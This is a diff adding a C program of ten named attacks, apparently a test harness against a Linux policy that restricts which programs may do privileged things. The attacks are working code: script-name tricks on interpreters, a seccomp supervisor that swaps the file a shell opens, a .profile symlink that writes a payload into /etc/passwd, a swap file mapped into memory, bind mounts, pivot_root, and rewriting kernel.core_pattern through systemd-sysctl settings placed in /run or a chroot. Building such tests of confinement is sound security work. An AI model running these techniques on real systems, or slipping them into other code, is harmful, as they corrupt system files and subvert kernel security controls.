@@ -1,0 +1,299 @@
+// SPDX-License-Identifier: MIT
+// trick - makes listed programs do what they were not listed for: by a name, a supervisor, a jail, a mount.
+#include "attack.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/filter.h>
+#include <linux/fs.h>
+#include <linux/seccomp.h>
+#include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/swap.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define ROOM "/var/tmp/trick"
+#define PAYLOAD "echo PAYLOAD RUNS"
+#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
+#define OURS "/var/tmp/ours"
+
+static void enter_room(void)
+{
+	mkdir(ROOM, 0755);
+	must("chdir", chdir(ROOM));
+}
+
+/* ---- what an interpreter is given ---- */
+
+/* A listed script under a name that its interpreter takes for an option. */
+static void option_name(char *const args[])
+{
+	char *const argv[] = { "x", PAYLOAD, NULL }, *const envp[] = { "PATH=/usr/bin", NULL };
+	int copy;
+
+	enter_room();
+	copy = opened(args[1], O_WRONLY | O_CREAT);
+	copy_into(args[0], copy);
+	close(copy);
+	execve(args[1], argv, envp);
+	refused("execve", errno);
+}
+
+static int listen_to_opens(void)
+{
+	struct sock_filter code[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog program = { NR_OF(code), code };
+
+	must("no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
+	return (int)must("seccomp", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
+					    SECCOMP_FILTER_FLAG_NEW_LISTENER, &program));
+}
+
+/* Answers the opens of @pid: those of @script with @evil, all others by the kernel. */
+static void supervise(pid_t pid, int listener, const char *script, int evil)
+{
+	char name[4096] = "";
+
+	while (waitpid(pid, NULL, WNOHANG) != pid) {
+		struct seccomp_notif call = { 0 };
+		struct seccomp_notif_addfd give = { .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = (unsigned)evil };
+		struct seccomp_notif_resp go = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
+		char mem[32];
+		int fd;
+
+		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0)
+			continue;
+		snprintf(mem, sizeof(mem), "/proc/%d/mem", (int)pid);
+		fd = opened(mem, O_RDONLY);
+		must("pread", pread(fd, name, sizeof(name) - 1, (off_t)call.data.args[1]));
+		close(fd);
+		give.id = go.id = call.id;
+		if (strcmp(name, script) == 0)
+			ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &give);
+		else
+			ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &go);
+	}
+}
+
+/* A shell starts for a listed script; who answers its system calls gives it another. */
+static void supervisor(char *const args[])
+{
+	int *shared = must_map("mmap", mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
+	char *const argv[] = { "sh", args[0], NULL }, *const envp[] = { NULL };
+	int evil = opened(args[1], O_RDONLY), listener;
+	pid_t pid;
+
+	*shared = -1;
+	pid = (pid_t)must("clone", syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
+	if (pid == 0) {
+		__atomic_store_n(shared, listen_to_opens(), __ATOMIC_SEQ_CST);
+		while (__atomic_load_n(shared, __ATOMIC_SEQ_CST) >= 0)
+			usleep(1000);
+		execve("/bin/sh", argv, envp);
+		refused("execve", errno);
+	}
+	while (__atomic_load_n(shared, __ATOMIC_SEQ_CST) < 0)
+		usleep(1000);
+	listener = (int)must("dup", fcntl(*shared, F_DUPFD_CLOEXEC, 100));
+	must("unshare", unshare(CLONE_FILES));
+	__atomic_store_n(shared, -2, __ATOMIC_SEQ_CST);
+	supervise(pid, listener, args[0], evil);
+}
+
+/* A login shell reads its profile, which is a link to a file that all interpreters may read. */
+static void other_name(char *const args[])
+{
+	static const char code[] = PAYLOAD "; exit\n";
+	char *const argv[] = { "-sh", args[0], NULL }, *const envp[] = { "HOME=" ROOM, NULL };
+	size_t len;
+	char *accounts = read_bytes("/etc/passwd", &len);
+	int fd = opened("/etc/passwd", O_WRONLY);
+	pid_t pid;
+
+	enter_room();
+	unlink(ROOM "/.profile");
+	must("symlink", symlink("/etc/passwd", ROOM "/.profile"));
+	must("write", pwrite(fd, code, sizeof(code) - 1, 0));
+	must("write", pwrite(fd, accounts, len, sizeof(code) - 1));
+	pid = (pid_t)must("fork", fork());
+	if (pid == 0) {
+		execve("/bin/sh", argv, envp);
+		refused("execve", errno);
+	}
+	waitpid(pid, NULL, 0);
+	must("write", pwrite(fd, accounts, len, 0));
+	must("truncate", ftruncate(fd, (off_t)len));
+	free(accounts);
+}
+
+/* ---- memory on its way to the disk ---- */
+
+static void format_swap(int fd)
+{
+	static char head[PAGE];
+	uint32_t version = 1, last = 1023;
+
+	memcpy(head + 1024, &version, sizeof(version));
+	memcpy(head + 1028, &last, sizeof(last));
+	memcpy(head + PAGE - 10, "SWAPSPACE2", 10);
+	must("write", pwrite(fd, head, sizeof(head), 0));
+	for (off_t at = PAGE; at <= (off_t)(last * PAGE); at += (off_t)PAGE)
+		must("write", pwrite(fd, head + 2048, 2048, at) < 0 ? -1 : pwrite(fd, head + 2048, 2048, at + 2048));
+	must("fsync", fsync(fd));
+}
+
+/* Whatever is swapped out can be changed through the mapping, which is older. */
+static void swap_file(char *const args[])
+{
+	int fd = opened(ROOM ".swap", O_RDWR | O_CREAT | O_TRUNC);
+
+	format_swap(fd);
+	must_map("mmap", mmap(NULL, 1024 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
+	must("swapon", swapon(ROOM ".swap", 0));
+	swapoff(ROOM ".swap");
+	succeeded("memory is swapped to a file that is mapped");
+}
+
+/* ---- the file system as a whole ---- */
+
+static void freeze(char *const args[])
+{
+	int fd = opened("/", O_RDONLY | O_DIRECTORY);
+
+	must("freeze", ioctl(fd, FIFREEZE, 0));
+	ioctl(fd, FITHAW, 0);
+	succeeded("the root file system stood still");
+}
+
+static void set_flags(char *const args[])
+{
+	int fd = opened(args[0], O_RDONLY), flags = 0;
+
+	must("get", ioctl(fd, FS_IOC_GETFLAGS, &flags));
+	flags ^= FS_NOATIME_FL;
+	must("set", ioctl(fd, FS_IOC_SETFLAGS, &flags));
+	flags ^= FS_NOATIME_FL;
+	ioctl(fd, FS_IOC_SETFLAGS, &flags);
+	succeeded("a listed file's attributes were changed");
+}
+
+/* ---- mounts ---- */
+
+static void be_alone(void)
+{
+	must("unshare", unshare(CLONE_NEWNS));
+	must("private", mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL));
+	enter_room();
+}
+
+static void mount_over(char *const args[])
+{
+	be_alone();
+	must("mount", mount(ROOM, args[0], NULL, MS_BIND, NULL));
+	succeeded("something else stands in its place");
+}
+
+static void other_root(char *const args[])
+{
+	be_alone();
+	mkdir(ROOM "/old", 0755);
+	must("mount", mount(ROOM, ROOM, NULL, MS_BIND, NULL));
+	must("pivot_root", syscall(SYS_pivot_root, ROOM, ROOM "/old"));
+	succeeded("the machine has another root");
+}
+
+/* ---- programs that may write the kernel's switches ---- */
+
+static void finish_switch(void)
+{
+	char now[64] = "";
+	int fd = opened(CORE_PATTERN, O_RDONLY);
+
+	must("read", read(fd, now, sizeof(now) - 1));
+	if (strncmp(now, OURS, strlen(OURS)) == 0)
+		succeeded("core_pattern is ours");
+	puts("core_pattern is not ours");
+}
+
+static int run(const char *path)
+{
+	char *const argv[] = { (char *)(uintptr_t)path, NULL };
+	int status;
+	pid_t pid = (pid_t)must("fork", fork());
+
+	if (pid == 0) {
+		execv(path, argv);
+		refused("execve", errno);
+	}
+	waitpid(pid, &status, 0);
+	return status;
+}
+
+static void put_setting(const char *directory)
+{
+	static const char setting[] = "kernel.core_pattern=" OURS "\n";
+	char path[256];
+	int fd;
+
+	snprintf(path, sizeof(path), "%s/ours.conf", directory);
+	if (mkdir(directory, 0755) < 0 && errno != EEXIST)
+		refused("mkdir", errno);
+	fd = opened(path, O_WRONLY | O_CREAT | O_TRUNC);
+	must("write", write(fd, setting, sizeof(setting) - 1));
+	close(fd);
+}
+
+/* The listed program that sets them reads what root wrote into /run. */
+static void run_setting(char *const args[])
+{
+	put_setting("/run/sysctl.d");
+	run("/usr/lib/systemd/systemd-sysctl");
+	finish_switch();
+}
+
+/* Or in a jail with configuration of its own. */
+static void jailed_setting(char *const args[])
+{
+	be_alone();
+	mkdir(ROOM "/usr", 0755);
+	mkdir(ROOM "/proc", 0755);
+	mkdir(ROOM "/etc", 0755);
+	must("mount", mount("/usr", ROOM "/usr", NULL, MS_BIND, NULL));
+	must("mount", mount("proc", ROOM "/proc", "proc", 0, NULL));
+	if (symlink("usr/lib", ROOM "/lib") < 0 && errno != EEXIST)
+		refused("symlink", errno);
+	if (symlink("usr/lib64", ROOM "/lib64") < 0 && errno != EEXIST)
+		refused("symlink", errno);
+	put_setting(ROOM "/etc/sysctl.d");
+	must("chroot", chroot(ROOM));
+	run("/usr/lib/systemd/systemd-sysctl");
+	finish_switch();
+}
+
+static const struct attack attacks[] = {
+	{ "option-name", option_name }, { "supervisor", supervisor },
+	{ "other-name", other_name }, { "swap-file", swap_file },
+	{ "freeze", freeze }, { "set-flags", set_flags },
+	{ "mount-over", mount_over }, { "other-root", other_root },
+	{ "run-setting", run_setting }, { "jailed-setting", jailed_setting },
+};
+
+int main(int argc, char *argv[])
+{
+	return attack_main(argc, argv, attacks, NR_OF(attacks));
+}
